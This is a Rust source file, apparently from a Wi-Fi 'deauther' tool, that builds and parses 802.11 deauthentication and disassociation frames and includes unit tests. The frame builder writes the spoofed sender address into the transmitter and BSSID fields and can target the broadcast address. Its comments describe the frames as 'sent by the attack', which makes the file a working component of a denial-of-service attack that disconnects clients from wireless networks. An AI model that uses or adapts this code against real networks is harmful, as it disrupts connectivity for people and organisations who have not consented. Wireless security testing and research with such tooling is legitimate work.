//! 802.11 Management Frame Construction and Parsing

use bytes::Buf;
use deauther_core::{Error, MacAddr, Result};

/// Length of a deauthentication/disassociation frame without FCS
pub const FRAME_LEN: usize = 26;

/// Length of the management header (frame control through sequence control)
pub const MGMT_HEADER_LEN: usize = 24;

/// Frame control byte 0 for a deauthentication frame
pub const FC_DEAUTH: u8 = 0xC0;
/// Frame control byte 0 for a disassociation frame
pub const FC_DISASSOC: u8 = 0xA0;

/// Reason code 1: unspecified reason
pub const REASON_UNSPECIFIED: u16 = 0x0001;

const RECEIVER_OFFSET: usize = 4;
const TRANSMITTER_OFFSET: usize = 10;
const BSSID_OFFSET: usize = 16;

/// Management frame subtypes sent by the attack
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MgmtSubtype {
    Deauth,
    Disassoc,
}

impl MgmtSubtype {
    pub const fn frame_control(self) -> u8 {
        match self {
            MgmtSubtype::Deauth => FC_DEAUTH,
            MgmtSubtype::Disassoc => FC_DISASSOC,
        }
    }

    pub fn from_frame_control(fc: u8) -> Option<Self> {
        match fc {
            FC_DEAUTH => Some(Self::Deauth),
            FC_DISASSOC => Some(Self::Disassoc),
            _ => None,
        }
    }
}

/// Builds deauthentication and disassociation frames into one reused buffer
///
/// Only byte 0 and the three address fields are ever rewritten; duration,
/// sequence control and reason code stay at their template values. The
/// returned slice aliases the internal buffer and is overwritten by the next
/// call to [`FrameBuilder::build`].
#[derive(Debug, Clone)]
pub struct FrameBuilder {
    buf: [u8; FRAME_LEN],
}

impl FrameBuilder {
    pub const TEMPLATE: [u8; FRAME_LEN] = [
        FC_DEAUTH, 0x00, // frame control
        0x00, 0x00, // duration, filled by the driver
        0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, // receiver
        0xCC, 0xCC, 0xCC, 0xCC, 0xCC, 0xCC, // transmitter
        0xCC, 0xCC, 0xCC, 0xCC, 0xCC, 0xCC, // bssid
        0x00, 0x00, // fragment & sequence number
        0x01, 0x00, // reason code, little endian
    ];

    pub fn new() -> Self {
        Self {
            buf: Self::TEMPLATE,
        }
    }

    pub fn build(&mut self, subtype: MgmtSubtype, from: &MacAddr, to: &MacAddr) -> &[u8; FRAME_LEN] {
        self.buf[0] = subtype.frame_control();
        self.buf[RECEIVER_OFFSET..RECEIVER_OFFSET + 6].copy_from_slice(to.as_bytes());
        self.buf[TRANSMITTER_OFFSET..TRANSMITTER_OFFSET + 6].copy_from_slice(from.as_bytes());
        self.buf[BSSID_OFFSET..BSSID_OFFSET + 6].copy_from_slice(from.as_bytes());
        &self.buf
    }
}

impl Default for FrameBuilder {
    fn default() -> Self {
        Self::new()
    }
}

/// Decoded management frame header plus reason code
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MgmtFrame {
    pub frame_control: u16,
    pub duration: u16,
    pub receiver: MacAddr,
    pub transmitter: MacAddr,
    pub bssid: MacAddr,
    pub sequence_control: u16,
    /// Present for deauthentication and disassociation frames
    pub reason_code: Option<u16>,
}

impl MgmtFrame {
    /// Parse a management frame (no radiotap header, FCS optional)
    pub fn parse(data: &[u8]) -> Result<Self> {
        if data.len() < MGMT_HEADER_LEN {
            return Err(Error::protocol("802.11 management frame too short"));
        }

        let mut buf = data;
        let frame_control = buf.get_u16_le();
        // type bits 2-3 of byte 0: 00 = management
        if frame_control & 0x000C != 0 {
            return Err(Error::protocol("Not a management frame"));
        }
        let duration = buf.get_u16_le();
        let receiver = take_mac(&mut buf);
        let transmitter = take_mac(&mut buf);
        let bssid = take_mac(&mut buf);
        let sequence_control = buf.get_u16_le();

        let reason_code = match MgmtSubtype::from_frame_control(frame_control as u8) {
            Some(_) if buf.remaining() >= 2 => Some(buf.get_u16_le()),
            Some(_) => return Err(Error::protocol("Missing reason code")),
            None => None,
        };

        Ok(Self {
            frame_control,
            duration,
            receiver,
            transmitter,
            bssid,
            sequence_control,
            reason_code,
        })
    }

    pub fn subtype(&self) -> Option<MgmtSubtype> {
        MgmtSubtype::from_frame_control(self.frame_control as u8)
    }
}

fn take_mac(buf: &mut &[u8]) -> MacAddr {
    let mut mac = [0u8; 6];
    buf.copy_to_slice(&mut mac);
    MacAddr(mac)
}

#[cfg(test)]
mod tests {
    use super::*;

    const AA: MacAddr = MacAddr::new([0xAA; 6]);
    const BB: MacAddr = MacAddr::new([0xBB; 6]);

    #[test]
    fn test_deauth_frame_bytes() {
        let mut builder = FrameBuilder::new();
        let frame = builder.build(MgmtSubtype::Deauth, &AA, &BB);

        let expected: [u8; FRAME_LEN] = [
            0xC0, 0x00, 0x00, 0x00, 0xBB, 0xBB, 0xBB, 0xBB, 0xBB, 0xBB, 0xAA, 0xAA, 0xAA, 0xAA,
            0xAA, 0xAA, 0xAA, 0xAA, 0xAA, 0xAA, 0xAA, 0xAA, 0x00, 0x00, 0x01, 0x00,
        ];
        assert_eq!(frame, &expected);
    }

    #[test]
    fn test_disassoc_changes_only_first_byte() {
        let mut builder = FrameBuilder::new();
        let deauth = *builder.build(MgmtSubtype::Deauth, &AA, &BB);
        let disassoc = *builder.build(MgmtSubtype::Disassoc, &AA, &BB);

        assert_eq!(disassoc[0], 0xA0);
        assert_eq!(deauth[1..], disassoc[1..]);
    }

    #[test]
    fn test_bssid_mirrors_transmitter() {
        let mut builder = FrameBuilder::new();
        let from = MacAddr::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]);
        let frame = builder.build(MgmtSubtype::Disassoc, &from, &MacAddr::broadcast());

        assert_eq!(frame[10..16], frame[16..22]);
        assert_eq!(&frame[4..10], &[0xFF; 6]);
    }

    #[test]
    fn test_buffer_reused_between_calls() {
        let mut builder = FrameBuilder::new();
        builder.build(MgmtSubtype::Disassoc, &AA, &BB);
        let frame = builder.build(MgmtSubtype::Deauth, &BB, &AA);

        assert_eq!(frame[0], FC_DEAUTH);
        assert_eq!(&frame[4..10], &[0xAA; 6]);
        assert_eq!(&frame[10..16], &[0xBB; 6]);
        assert_eq!(&frame[22..], &[0x00, 0x00, 0x01, 0x00]);
    }

    #[test]
    fn test_parse_built_frame() {
        let mut builder = FrameBuilder::new();
        let frame = builder.build(MgmtSubtype::Disassoc, &AA, &BB);
        let parsed = MgmtFrame::parse(frame).unwrap();

        assert_eq!(parsed.subtype(), Some(MgmtSubtype::Disassoc));
        assert_eq!(parsed.receiver, BB);
        assert_eq!(parsed.transmitter, AA);
        assert_eq!(parsed.bssid, AA);
        assert_eq!(parsed.reason_code, Some(REASON_UNSPECIFIED));
    }

    #[test]
    fn test_parse_rejects_data_frames() {
        let mut data = [0u8; MGMT_HEADER_LEN];
        data[0] = 0x08; // data frame
        assert!(MgmtFrame::parse(&data).is_err());
    }

    #[test]
    fn test_parse_beacon_has_no_reason() {
        let mut data = [0u8; MGMT_HEADER_LEN + 12];
        data[0] = 0x80; // beacon
        let parsed = MgmtFrame::parse(&data).unwrap();
        assert_eq!(parsed.subtype(), None);
        assert_eq!(parsed.reason_code, None);
    }

    #[test]
    fn test_parse_truncated() {
        assert!(MgmtFrame::parse(&[0xC0, 0x00, 0x00]).is_err());
        let mut builder = FrameBuilder::new();
        let frame = builder.build(MgmtSubtype::Deauth, &AA, &BB);
        assert!(MgmtFrame::parse(&frame[..MGMT_HEADER_LEN]).is_err());
    }
}
